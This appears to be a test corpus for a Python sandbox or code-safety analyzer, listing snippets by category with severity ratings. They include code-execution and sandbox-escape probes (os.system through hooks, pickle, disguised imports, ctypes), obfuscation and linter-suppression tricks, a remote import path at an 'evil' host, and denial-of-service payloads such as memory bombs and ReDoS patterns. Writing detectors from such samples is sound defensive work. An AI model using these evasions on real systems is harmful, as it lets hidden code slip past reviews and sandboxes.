    def __reduce__(self): return os.system, ("id",)
import copy
copy.copy(X())
#### hooks, pickle.dumps(X()): HIGH
import os
class X:
    def __setstate__(self, s): os.system("id")
import pickle
pickle.dumps(X())
#### hooks, sys.displayhook = os.system: HIGH
import sys, os
sys.displayhook = os.system
#### hooks, sys.unraisablehook = lambda a  os.system("id"): HIGH
import sys, os
sys.unraisablehook = lambda a: os.system("id")
#### hooks, threading.excepthook = lambda a  os.system("id"): HIGH
import threading, os
threading.excepthook = lambda a: os.system("id")
#### hooks, def f()  os.system("id"): HIGH
import atexit, os
@atexit.register
def f(): os.system("id")
#### hooks, signal.signal(signal.SIGTERM, os.system): HIGH
import signal, os
signal.signal(signal.SIGTERM, os.system)
#### hooks, gc.callbacks.append(lambda *a  os.system("id")): HIGH
import gc, os
gc.callbacks.append(lambda *a: os.system("id"))
#### hooks, r = weakref.ref(z, lambda _  os.system("id")) / del z: HIGH
import weakref, os
class Z: 0
z = Z()
r = weakref.ref(z, lambda _: os.system("id"))
del z
#### hooks, functools.reduce(lambda a, b  os.system(b), ["", "id"]): HIGH
import functools, os
functools.reduce(lambda a, b: os.system(b), ["", "id"])
#### hooks, list(itertools.starmap(os.system, [("id",)])): HIGH
import itertools, os
list(itertools.starmap(os.system, [("id",)]))
#### hooks, list(itertools.accumulate(["", "id"], lambda a, b  os.system(b))): HIGH
import itertools, os
list(itertools.accumulate(["", "id"], lambda a, b: os.system(b)))
#### hooks, list(map(os.system, ["id"])): HIGH
import os
list(map(os.system, ["id"]))
#### hooks, sorted(["id"], key=os.system): HIGH
import os
sorted(["id"], key=os.system)
#### hooks, next(filter(os.system, ["id"]), 0): HIGH
import os
next(filter(os.system, ["id"]), 0)
#### hooks, c.ThreadPoolExecutor().map(os.system, ["id"]): HIGH
import concurrent.futures as c, os
c.ThreadPoolExecutor().map(os.system, ["id"])
#### hooks, c.ProcessPoolExecutor().submit(os.system, "id"): HIGH
import concurrent.futures as c, os
c.ProcessPoolExecutor().submit(os.system, "id")
#### hooks, m.Process(target=os.system, args=("id",)).start(): HIGH
import multiprocessing as m, os
m.Process(target=os.system, args=("id",)).start()
#### hooks, m.Pool().map(os.system, ["id"]): HIGH
import multiprocessing as m, os
m.Pool().map(os.system, ["id"])
#### hooks, asyncio.get_event_loop().call_soon(os.system, "id"): HIGH
import asyncio, os
asyncio.get_event_loop().call_soon(os.system, "id")
#### hooks, asyncio.to_thread(os.system, "id"): HIGH
import asyncio, os
asyncio.to_thread(os.system, "id")
#### hooks, _thread.start_new_thread(os.system, ("id",)): HIGH
import _thread, os
_thread.start_new_thread(os.system, ("id",))
#### hooks, tkinter.Tk().after(1, os.system, "id"): HIGH
import tkinter, os
tkinter.Tk().after(1, os.system, "id")
#### hooks, c.execute("select f('id')"): HIGH
import sqlite3, os
c = sqlite3.connect(":memory:")
c.create_function("f", 1, os.system)
c.execute("select f('id')")
#### hooks, re.sub("x", os.system, "x"): HIGH
import re, os
re.sub("x", os.system, "x")
#### hooks, json.loads("[1]", parse_int=os.system): HIGH
import json, os
json.loads("[1]", parse_int=os.system)
#### hooks, json.dumps(object(), default=os.system): HIGH
import json, os
json.dumps(object(), default=os.system)
#### hooks, pd.Series(["id"]).apply(os.system): HIGH
import pandas as pd, os
pd.Series(["id"]).apply(os.system)
#### hooks, pd.DataFrame({"a"  ["id"]}).applymap(os.system): HIGH
import pandas as pd, os
pd.DataFrame({"a": ["id"]}).applymap(os.system)
#### hooks, pd.DataFrame({"a"  ["id"]}).groupby("a").apply(os.system): HIGH
import pandas as pd, os
pd.DataFrame({"a": ["id"]}).groupby("a").apply(os.system)
#### hooks, pd.Series(["id"]).transform(os.system): HIGH
import pandas as pd, os
pd.Series(["id"]).transform(os.system)
#### hooks, pd.Series([1]).rolling(1).apply(lambda x  os.system("id")): HIGH
import pandas as pd, os
pd.Series([1]).rolling(1).apply(lambda x: os.system("id"))
#### hooks, np.frompyfunc(os.system, 1, 1)("id"): HIGH
import numpy as np, os
np.frompyfunc(os.system, 1, 1)("id")
#### hooks, np.apply_along_axis(lambda x  os.system("id"), 0, np.ones(1)): HIGH
import numpy as np, os
np.apply_along_axis(lambda x: os.system("id"), 0, np.ones(1))
#### hooks, print(np.ones(1)): HIGH
import numpy as np, os
np.set_printoptions(formatter={"all": lambda x: os.system("id")})
print(np.ones(1))
#### hooks, np.seterrcall(lambda *a  os.system("id")): HIGH
import numpy as np, os
np.seterrcall(lambda *a: os.system("id"))
#### import, importlib.import_module("os").system("id"): HIGH
importlib = __import__("importlib")
importlib.import_module("os").system("id")
#### import, i("os").system("id"): HIGH
from importlib import import_module as i
i("os").system("id")
#### import, importlib.__import__("os").system("id"): HIGH
import importlib
importlib.__import__("os").system("id")
#### import, m.system("id"): HIGH
import importlib.util as u
m = u.module_from_spec(u.find_spec("os"))
m.system("id")
#### import, pkgutil.importlib.import_module("os").system("id"): HIGH
import pkgutil
pkgutil.importlib.import_module("os").system("id")
#### import, pkgutil.find_loader("os").load_module("os").system("id"): HIGH
import pkgutil
pkgutil.find_loader("os").load_module("os").system("id")
#### import, imp.load_source("x", "/tmp/x.py"): HIGH
import imp
imp.load_source("x", "/tmp/x.py")
#### import, runpy.run_path("/tmp/x.py"): HIGH
import runpy
runpy.run_path("/tmp/x.py")
#### import, zipimport.zipimporter("x.zip").load_module("x"): HIGH
import zipimport
zipimport.zipimporter("x.zip").load_module("x")
#### import, sys.path.append("/tmp"): HIGH
import sys
sys.path.append("/tmp")
#### import, sys.path.insert(0, "http //evil/x.zip"): HIGH
import sys
sys.path.insert(0, "http://evil/x.zip")
#### import, sys.path += ["/tmp"]: HIGH
import sys
sys.path += ["/tmp"]
#### import, sys.path.extend(["/dev/shm"]): HIGH
import sys
sys.path.extend(["/dev/shm"])
#### import, sys.meta_path.append(object()): HIGH
import sys
sys.meta_path.append(object())
#### import, sys.path_hooks.append(print): HIGH
import sys
sys.path_importer_cache.clear()
sys.path_hooks.clear()
sys.path_hooks.append(print)
#### import, site.addsitedir("/tmp"): HIGH
import site
site.addsitedir("/tmp")
#### import, math.system("id"): HIGH
import os, sys
sys.modules["math"] = os
import math
math.system("id")
#### import, builtins.__import__("os").system("id"): HIGH
import builtins
builtins.__import__("os").system("id")
#### import, __builtins__.__import__("os").system("id"): HIGH
__builtins__.__import__("os").system("id")
#### import, __builtins__["__import__"]("os").system("id"): HIGH
__builtins__["__import__"]("os").system("id")
#### import, types.ModuleType.__getattribute__(__import__("os"), "system")("id"): HIGH
import types
types.ModuleType.__getattribute__(__import__("os"), "system")("id")
#### import, s.os.system("id"): HIGH
import xml.sax.saxutils as s
s.os.system("id")
#### import, t.sys.modules["os"].system("id"): HIGH
import json.tool as t
t.sys.modules["os"].system("id")
#### import, z.os.system("id"): HIGH
import zipfile as z
z.os.system("id")
#### import, io.os.system("id") if hasattr(io, "os") else __import__("os").system("id"): HIGH
import csv, io
io.os.system("id") if hasattr(io, "os") else __import__("os").system("id")
#### import, i.os.system("id"): HIGH
import inspect as i
i.os.system("id")
#### import, l.os.system("id"): HIGH
import logging as l
l.os.system("id")
#### import, w.sys.modules["os"].system("id"): HIGH
import warnings as w
w.sys.modules["os"].system("id")
#### import, t._os.system("id"): HIGH
import threading as t
t._os.system("id")
#### import, u.os.system("id"): HIGH
import multiprocessing.util as u
u.os.system("id")
#### import, np.os.system("id"): HIGH
import numpy as np
np.os.system("id")
#### import, np.lib.utils.os.system("id"): HIGH
import numpy as np
np.lib.utils.os.system("id")
#### import, scipy._lib._util.sys.modules["os"].system("id"): HIGH
import scipy
scipy._lib._util.sys.modules["os"].system("id")
#### import, torch.os.system("id"): HIGH
import torch
torch.os.system("id")
#### import, e.os.system("id"): HIGH
import sklearn.externals as e
e.os.system("id")
#### import, c.os.system("id"): HIGH
import matplotlib.cbook as c
c.os.system("id")
#### import, c.os.popen("id"): HIGH
import pandas.io.common as c
c.os.popen("id")
#### import, c.os.system("id") (2): HIGH
import xgboost.core as c
c.os.system("id")
#### native, ctypes.cdll.LoadLibrary("x.so"): HIGH
import ctypes
ctypes.cdll.LoadLibrary("x.so")
#### native, ctypes.cdll["libc.so.6"].system(b"id"): HIGH
import ctypes
ctypes.cdll["libc.so.6"].system(b"id")
#### native, ctypes.windll.kernel32: HIGH
import ctypes
ctypes.windll.kernel32
#### native, ctypes.string_at(0): HIGH
import ctypes
ctypes.string_at(0)
#### native, ctypes.cast(1, ctypes.py_object).value: HIGH
import ctypes
ctypes.cast(1, ctypes.py_object).value
#### native, ctypes.CFUNCTYPE(ctypes.c_int)(0)(): HIGH
import ctypes
ctypes.CFUNCTYPE(ctypes.c_int)(0)()
#### native, ctypes.CDLL(ctypes.util.find_library("c")): HIGH
import ctypes.util
ctypes.CDLL(ctypes.util.find_library("c"))
#### native, _ctypes.dlopen("x", 0): HIGH
import _ctypes
_ctypes.dlopen("x", 0)
#### native, mmap.mmap(-1, 1, mmap.MAP_PRIVATE, mmap.PROT_EXEC): HIGH
import mmap
mmap.mmap(-1, 1, mmap.MAP_PRIVATE, mmap.PROT_EXEC)
#### native, os.posix_spawnp("id", ["id"], os.environ): HIGH
import os
os.posix_spawnp("id", ["id"], os.environ)
#### native, os.spawnlp(os.P_WAIT, "id", "id"): HIGH
import os
os.spawnlp(os.P_WAIT, "id", "id")
#### native, os.fork(): HIGH
import os
os.fork()
#### native, os.forkpty(): HIGH
import os
os.forkpty()
#### native, os.startfile("calc.exe"): HIGH
import os
os.startfile("calc.exe")
#### native, os.kill(1, 9): HIGH
import os
os.kill(1, 9)
#### native, os.setuid(0): HIGH
import os
os.setuid(0)
#### native, os.chroot("/"): HIGH
import os
os.chroot("/")
#### native, subprocess.Popen("id", shell=True): HIGH
import subprocess
subprocess.Popen("id", shell=True)
#### native, subprocess.getstatusoutput("id"): HIGH
import subprocess
subprocess.getstatusoutput("id")
#### native, pty.fork(): HIGH
import pty
pty.fork()
#### native, asyncio.subprocess.create_subprocess_exec("id"): HIGH
import asyncio
asyncio.subprocess.create_subprocess_exec("id")
#### native, d.spawn(["id"]): HIGH
import distutils.spawn as d
d.spawn(["id"])
#### native, venv.create("x"): HIGH
import venv
venv.create("x")
#### native, p.main(["install", "x"]): HIGH
import pip._internal as p
p.main(["install", "x"])
#### native, e.main(["x"]): HIGH
import setuptools.command.easy_install as e
e.main(["x"])
#### native, Cython.inline("1"): HIGH
import Cython
Cython.inline("1")
#### native, pyximport.install(): HIGH
import pyximport
pyximport.install()
#### native, __import__("cffi").FFI().dlopen(None): HIGH
import numba.core.typing.cffi_utils as c
__import__("cffi").FFI().dlopen(None)
#### native, l.load_library_permanently("x"): HIGH
import llvmlite.binding as l
l.load_library_permanently("x")
#### native, m.ExtensionFileLoader("x", "x.so"): HIGH
import importlib.machinery as m
m.ExtensionFileLoader("x", "x.so")
#### native, imp.load_dynamic("x", "x.so"): HIGH
import imp
imp.load_dynamic("x", "x.so")
#### native, sqlite3.connect("x").enable_load_extension(True): HIGH
import sqlite3
sqlite3.connect("x").enable_load_extension(True)
#### native, readline.read_init_file("/tmp/x") if 0 else __import__("ctypes").CDLL(None): HIGH
import readline
readline.read_init_file("/tmp/x") if 0 else __import__("ctypes").CDLL(None)
#### native, webbrowser.open("http //evil"): HIGH
import webbrowser
webbrowser.open("http://evil")
#### native, os.startfile("x"): HIGH
import turtle, os
os.startfile("x")
#### native, p.Popen(None): HIGH
import multiprocessing.popen_fork as p
p.Popen(None)
#### native, p.ProcessPoolExecutor().submit(__import__("os").system, "id"): HIGH
import concurrent.futures.process as p
p.ProcessPoolExecutor().submit(__import__("os").system, "id")
#### strings, getattr(__import__("o" "s"), "sys" "tem")("id"): HIGH
getattr(__import__("o" "s"), "sys" "tem")("id")
#### strings, __import__("so"[  -1]).system("id"): HIGH
__import__("so"[::-1]).system("id")
#### strings, __import__("".join(["o", "s"])).system("id"): HIGH
__import__("".join(["o", "s"])).system("id")
#### strings, __import__("%s%s" % ("o", "s")).system("id"): HIGH
__import__("%s%s" % ("o", "s")).system("id")
#### strings, __import__("{}{}".format("o", "s")).system("id"): HIGH
__import__("{}{}".format("o", "s")).system("id")
#### strings, __import__(chr(111) + chr(115)).system("id"): HIGH
__import__(chr(111) + chr(115)).system("id")
#### strings, __import__(bytes([111, 115]).decode()).system("id"): HIGH
__import__(bytes([111, 115]).decode()).system("id")
#### strings, __import__("xosx".strip("x")).system("id"): HIGH
__import__("xosx".strip("x")).system("id")
#### strings, __import__("OS".lower()).system("id"): HIGH
__import__("OS".lower()).system("id")
#### strings, __import__("a,os".split(",")[1]).system("id"): HIGH
__import__("a,os".split(",")[1]).system("id")
#### strings, __import__("o5".replace("5", "s")).system("id"): HIGH
__import__("o5".replace("5", "s")).system("id")
#### strings, __import__("\x6f\x73").system("id"): HIGH
__import__("\x6f\x73").system("id")
#### strings, __import__("\u006f\163").system("id"): HIGH
__import__("\u006f\163").system("id")
#### strings, __import__(str(b"os", "ascii")).system("id"): HIGH
__import__(str(b"os", "ascii")).system("id")
#### strings, __import__(f"{'o'}{'s'}").system("id"): HIGH
__import__(f"{'o'}{'s'}").system("id")
#### strings, __import__("os\0x".split("\0")[0]).system("id"): HIGH
__import__("os\0x".split("\0")[0]).system("id")
#### strings, __import__("nmnr".translate({110  "o", 109  "", 114  "s"})[  2] if 0 else "os").: HIGH
__import__("nmnr".translate({110: "o", 109: "", 114: "s"})[::2] if 0 else "os").system("id")
#### strings, eval("".join(map(chr, [49]))): HIGH
eval("".join(map(chr, [49])))
#### strings, exec(str(bytearray([49]), "utf8")): HIGH
exec(str(bytearray([49]), "utf8"))
#### strings, eval(repr(1) + "+1"): HIGH
eval(repr(1) + "+1")
#### strings, exec("%c" % 49): HIGH
exec("%c" % 49)
#### strings, exec(format(49, "c")): HIGH
exec(format(49, "c"))
#### strings, exec(hex(255)[2 ].upper().lower()): HIGH
exec(hex(255)[2:].upper().lower())
#### strings, exec("1" * 3): HIGH
exec("1" * 3)
#### strings, exec(max(["1", "2"])): HIGH
exec(max(["1", "2"]))
#### strings, exec(ascii(1)): HIGH
exec(ascii(1))
#### strings, exec("".join(sorted("1"))): HIGH
exec("".join(sorted("1")))
#### strings, exec("".join(reversed("1+1"))): HIGH
exec("".join(reversed("1+1")))
#### strings, exec("".join(filter(str.isdigit, "a1b"))): HIGH
exec("".join(filter(str.isdigit, "a1b")))
#### strings, exec(string.digits[1]): HIGH
import string
exec(string.digits[1])
#### strings, exec("".join(itertools.chain("1", "+", "1"))): HIGH
import itertools
exec("".join(itertools.chain("1", "+", "1")))
#### strings, exec(operator.add("1", "+1")): HIGH
import operator
exec(operator.add("1", "+1"))
#### strings, exec(operator.itemgetter(1)("01")): HIGH
import operator
exec(operator.itemgetter(1)("01"))
#### suppress, os.system("id")  # noqa: HIGH
import os
os.system("id")  # noqa
#### suppress, os.system("id")  # type  ignore: HIGH
import os
os.system("id")  # type: ignore
#### suppress, os.system("id")  # pylint  disable=all: HIGH
import os
os.system("id")  # pylint: disable=all
#### suppress, else  os.system("id"): HIGH
import os
if False: pass
else: os.system("id")
#### suppress, if 0  os.system("id"): HIGH
import os
if 0: os.system("id")
#### suppress, while False  os.system("id"): HIGH
import os
while False: os.system("id")
#### suppress, finally  os.system("id"): HIGH
import os
try: pass
finally: os.system("id")
#### suppress, except  os.system("id"): HIGH
import os
try: raise ValueError
except: os.system("id")
#### suppress, x = 1 and os.system("id"): HIGH
import os
x = 1 and os.system("id")
#### suppress, x = [os.system("id") for _ in [1]]: HIGH
import os
x = [os.system("id") for _ in [1]]
#### suppress, assert os.system("id") == 0: HIGH
import os
assert os.system("id") == 0
#### suppress, lambda  os.system("id"): HIGH
import os
lambda: os.system("id")
#### suppress, def f()  os.system("id"): HIGH
import os
def f(): os.system("id")
#### suppress, def f(x=os.system("id"))  0: HIGH
import os
def f(x=os.system("id")): 0
#### suppress, def f() -> os.system("id")  0: HIGH
import os
def f() -> os.system("id"): 0
#### suppress, x  os.system("id") = 1: HIGH
import os
x: os.system("id") = 1
#### suppress, class A  x = os.system("id"): HIGH
import os
class A: x = os.system("id")
#### suppress, f"{os.system('id')}": HIGH
import os
f"{os.system('id')}"
#### suppress, del [os.system("id")][0]: HIGH
import os
del [os.system("id")][0]
#### suppress, print(*[os.system("id")]): HIGH
import os
print(*[os.system("id")])
#### suppress, {**{os.system("id")  1}}: HIGH
import os
{**{os.system("id"): 1}}
#### suppress, raise SystemExit(os.system("id")): HIGH
import os
raise SystemExit(os.system("id"))
#### suppress, # fmt  off: HIGH
import os
global_ = os.system("id")
# fmt: off
#### suppress, system("id"): HIGH
import \
os
os.\
system("id")
#### suppress, os . system ( "id" ): HIGH
import os
os . system ( "id" )
#### suppress, case _  0: HIGH
import os
match os.system("id"):
    case _: 0
#### suppress, async def f()  await os.system("id"): HIGH
import os
async def f(): await os.system("id")
#### suppress, 0 if os.system("id") else 1: HIGH
import os
0 if os.system("id") else 1
#### suppress, [1][os.system("id") ]: HIGH
import os
[1][os.system("id"):]
#### suppress, not os.system("id"): HIGH
import os
not os.system("id")
#### work, while 1  continue: MEDIUM
while 1: continue
#### work, while "x"  0: MEDIUM
while "x": 0
#### work, while [1]  0: MEDIUM
while [1]: 0
#### work, while 2 > 1  0: MEDIUM
while 2 > 1: 0
#### work, while x  x += 1: MEDIUM
x = 1
while x: x += 1
#### work, for i in iter(int, 1)  0: MEDIUM
for i in iter(int, 1): 0
#### work, for i in itertools.count()  0: MEDIUM
import itertools
for i in itertools.count(): 0
#### work, for i in itertools.repeat(0)  0: MEDIUM
import itertools
for i in itertools.repeat(0): 0
#### work, list(itertools.count()): MEDIUM
import itertools
list(itertools.count())
#### work, sum(itertools.cycle([1])): MEDIUM
import itertools
sum(itertools.cycle([1]))
#### work, max(itertools.count()): MEDIUM
import itertools
max(itertools.count())
#### work, 0 in itertools.count(1): MEDIUM
import itertools
0 in itertools.count(1)
#### work, tuple(itertools.permutations(range(50))): MEDIUM
import itertools
tuple(itertools.permutations(range(50)))
#### work, set(itertools.product(range(1000), repeat=9)): MEDIUM
import itertools
set(itertools.product(range(1000), repeat=9))
#### work, collections.deque(iter(int, 1)): MEDIUM
import collections
collections.deque(iter(int, 1))
#### work, def f()  f() / f(): MEDIUM
def f(): f()
f()
#### work, f = lambda  f() / f(): MEDIUM
f = lambda: f()
f()
#### work, (lambda f  f(f))(lambda f  f(f)): MEDIUM
(lambda f: f(f))(lambda f: f(f))
#### work, class A  __getattr__ = lambda s, n  getattr(s, n) / A().x: MEDIUM
class A: __getattr__ = lambda s, n: getattr(s, n)
A().x
#### work, def __init__(self)  A() / A(): MEDIUM
class A:
    def __init__(self): A()
A()
#### work, x = [0] * (1 << 40): MEDIUM
x = [0] * (1 << 40)
#### work, x = "a" * 10**12: MEDIUM
x = "a" * 10**12
#### work, x = b"a" * 2**40: MEDIUM
x = b"a" * 2**40
#### work, x = (0,) * 10**12: MEDIUM
x = (0,) * 10**12
#### work, x = bytearray(10**12): MEDIUM
x = bytearray(10**12)
#### work, x = bytes(10**13): MEDIUM
x = bytes(10**13)
#### work, x = list(range(10**12)): MEDIUM
x = list(range(10**12))
#### work, x = {i for i in range(10**12)}: MEDIUM
x = {i for i in range(10**12)}
#### work, x = [i for i in range(10**11)]: MEDIUM
x = [i for i in range(10**11)]
#### work, x = 10**10**10: MEDIUM
x = 10**10**10
#### work, x = pow(10, 10**10): MEDIUM
x = pow(10, 10**10)
#### work, x = 2 ** 2 ** 64: MEDIUM
x = 2 ** 2 ** 64
#### work, x = int("1" * 10**9): MEDIUM
x = int("1" * 10**9)
#### work, x = str(10**10**8): MEDIUM
x = str(10**10**8)
#### work, x = "%1000000000000d" % 1: MEDIUM
x = "%1000000000000d" % 1
#### work, x = f"{1 1000000000000}": MEDIUM
x = f"{1:1000000000000}"
#### work, x = "{ >1000000000000}".format(1): MEDIUM
x = "{:>1000000000000}".format(1)
#### work, x = "a".center(10**12): MEDIUM
x = "a".center(10**12)
#### work, math.factorial(10**10): MEDIUM
import math
math.factorial(10**10)
#### work, math.perm(10**9): MEDIUM
import math
math.perm(10**9)
#### work, math.comb(10**9, 5 * 10**8): MEDIUM
import math
math.comb(10**9, 5 * 10**8)
#### work, np.zeros(10**13): MEDIUM
import numpy as np
np.zeros(10**13)
#### work, np.empty((10**7, 10**7)): MEDIUM
import numpy as np
np.empty((10**7, 10**7))
#### work, np.arange(10**13): MEDIUM
import numpy as np
np.arange(10**13)
#### work, np.linspace(0, 1, 10**13): MEDIUM
import numpy as np
np.linspace(0, 1, 10**13)
#### work, np.identity(10**7): MEDIUM
import numpy as np
np.identity(10**7)
#### work, np.tile([1], 10**13): MEDIUM
import numpy as np
np.tile([1], 10**13)
#### work, np.random.rand(10**7, 10**7): MEDIUM
import numpy as np
np.random.rand(10**7, 10**7)
#### work, np.broadcast_to(1, (10**9, 10**9)).copy(): MEDIUM
import numpy as np
np.broadcast_to(1, (10**9, 10**9)).copy()
#### work, pd.date_range("1900", "2200", freq="ms"): MEDIUM
import pandas as pd
pd.date_range("1900", "2200", freq="ms")
#### work, torch.ones(10**13): MEDIUM
import torch
torch.ones(10**13)
#### work, re.match("(a*)*b", "a" * 40): MEDIUM
import re
re.match("(a*)*b", "a" * 40)
#### work, re.match("(a|aa)+$", "a" * 40 + "b"): MEDIUM
import re
re.match("(a|aa)+$", "a" * 40 + "b")
#### work, re.match(r"(\d+)*x", "1" * 40): MEDIUM
import re
re.match(r"(\d+)*x", "1" * 40)
#### work, re.compile("([a-zA-Z]+)*$").match("a" * 40 + "!"): MEDIUM
import re
re.compile("([a-zA-Z]+)*$").match("a" * 40 + "!")
#### work, re.match("(x+x+)+y", "x" * 40): MEDIUM
import re
re.match("(x+x+)+y", "x" * 40)
#### work, time.sleep(10**9): MEDIUM
import time
time.sleep(10**9)
#### work, while 1  time.sleep(1): MEDIUM
import time
while 1: time.sleep(1)
#### work, while 1  threading.Thread(target=print).start(): MEDIUM
import threading
while 1: threading.Thread(target=print).start()
#### work, for i in range(10**7)  threading.Thread(target=print).start(): MEDIUM
import threading
for i in range(10**7): threading.Thread(target=print).start()
#### work, signal.pause(): MEDIUM
import signal
signal.pause()
#### work, sys.setrecursionlimit(10**8): MEDIUM
import sys
sys.setrecursionlimit(10**8)
#### work, while True  x.append(x): MEDIUM
x = []
while True: x.append(x)
#### work, while True  x += x: MEDIUM
x = "a"
while True: x += x
#### work, for i in x  x.append(i): MEDIUM
x = [1]
for i in x: x.append(i)
#### work, for _ in range(100)  x += x: MEDIUM
x = "a"
for _ in range(100): x += x
#### work, for _ in range(100)  x *= x: MEDIUM
x = 2
for _ in range(100): x *= x
#### work, for _ in range(60)  x = x + x: MEDIUM
x = [0]
for _ in range(60): x = x + x
#### work, list(g()): MEDIUM
def g():
    while 1: yield 0
list(g())
#### work, list(g()) (2): MEDIUM
def g():
    yield from g()
list(g())
#### work, for i in range(10**12)  pass: MEDIUM
for i in range(10**12): pass
#### work, for j in range(10**5)  pass: MEDIUM
for i in range(10**5):
    for j in range(10**5): pass
#### work, sum(range(10**12)): MEDIUM
sum(range(10**12))
#### work, max(range(10**12)): MEDIUM
max(range(10**12))
#### work, any(False for _ in range(10**12)): MEDIUM
any(False for _ in range(10**12))
#### work, zlib.decompress(b"x", bufsize=10**12): MEDIUM
import zlib
zlib.decompress(b"x", bufsize=10**12)
#### work, copy.deepcopy([0] * 10**12): MEDIUM
import copy
copy.deepcopy([0] * 10**12)
#### work, open("/tmp/x", "wb").write(b"0" * 10**12): MEDIUM
import tempfile
open("/tmp/x", "wb").write(b"0" * 10**12)
#### work, while True  os.dup(0): MEDIUM
import os
while True: os.dup(0)
#### work, while True  pass: MEDIUM
import socket
while True: pass
#### order, random.choice([1]): LOW
import random
random.choice([1])  #! SBX3002
#### order, random.random(): LOW
import random
random.seed()  #! SBX3002
random.random()
#### order, random.SystemRandom().random(): LOW
import random
random.SystemRandom().random()  #! SBX3004
#### order, shuffle([1]): LOW
from random import shuffle
shuffle([1])  #! SBX3002
#### order, np.random.rand(): LOW
import numpy as np
np.random.rand()  #! SBX3002
#### order, np.random.default_rng().random(): LOW
import numpy as np
np.random.default_rng().random()  #! SBX3002
#### order, np.random.RandomState().rand(): LOW
import numpy as np
np.random.RandomState().rand()  #! SBX3002
#### order, torch.rand(1): LOW
import torch
torch.rand(1)  #! SBX3002
#### order, torch.randperm(3): LOW
import torch
torch.randperm(3)  #! SBX3002
#### order, tf.random.uniform([1]): LOW
import tensorflow as tf
tf.random.uniform([1])  #! SBX3002
#### order, pd.Series([1]).sample(): LOW
import pandas as pd
pd.Series([1]).sample()  #! SBX3002
#### order, pd.Timestamp.now(): LOW
import pandas as pd
pd.Timestamp.now()  #! SBX3001
#### order, datetime.datetime.utcnow(): LOW
import datetime
datetime.datetime.utcnow()  #! SBX3001
#### order, datetime.date.today(): LOW
import datetime
datetime.date.today()  #! SBX3001
#### order, time.perf_counter(): LOW
import time
time.perf_counter()  #! SBX3001
#### order, time.ctime(): LOW
import time
time.ctime()  #! SBX3001
#### order, time.process_time(): LOW
import time
time.process_time()  #! SBX3001
#### order, uuid.uuid4(): LOW
import uuid
uuid.uuid4()  #! SBX3004
#### order, secrets.token_bytes(): LOW
import secrets
secrets.token_bytes()  #! SBX3004
#### order, os.getpid(): LOW
import os
os.getpid()  #! SBX3006
#### order, os.listdir("."): LOW
import os
os.listdir(".")  #! SBX3007
#### order, os.times(): LOW
import os
os.times()  #! SBX3001
#### order, glob.glob("*.csv"): LOW
import glob
glob.glob("*.csv")  #! SBX3007
#### order, list(pathlib.Path(".").iterdir()): LOW
import pathlib
list(pathlib.Path(".").iterdir())  #! SBX3007
#### order, hash("a"): LOW
hash("a")  #! SBX3008
#### order, id([]): LOW
id([])  #! SBX3008
#### order, list({"a", "b"}): LOW
list({"a", "b"})  #! SBX3003
#### order, for x in {"a", "b"}  print(x): LOW
for x in {"a", "b"}: print(x)  #! SBX3003
#### order, "".join({"a", "b"}): LOW
"".join({"a", "b"})  #! SBX3003
#### order, {"a", "b"}.pop(): LOW
{"a", "b"}.pop()  #! SBX3003
#### order, print({"a", "b"}): LOW
print({"a", "b"})  #! SBX3003
#### order, str(frozenset(["a", "b"])): LOW
str(frozenset(["a", "b"]))  #! SBX3003
#### order, next(iter({"a", "b"})): LOW
next(iter({"a", "b"}))  #! SBX3003
#### order, c.as_completed([]): LOW
import concurrent.futures as c
c.as_completed([])  #! SBX3005
#### order, psutil.cpu_percent(): LOW
import psutil
psutil.cpu_percent()  #! SBX3006
#### order, c.KMeans(): LOW
import sklearn.cluster as c
c.KMeans()  #! SBX3002
#### order, faker.Faker().name(): LOW
import faker
faker.Faker().name()  #! SBX3004
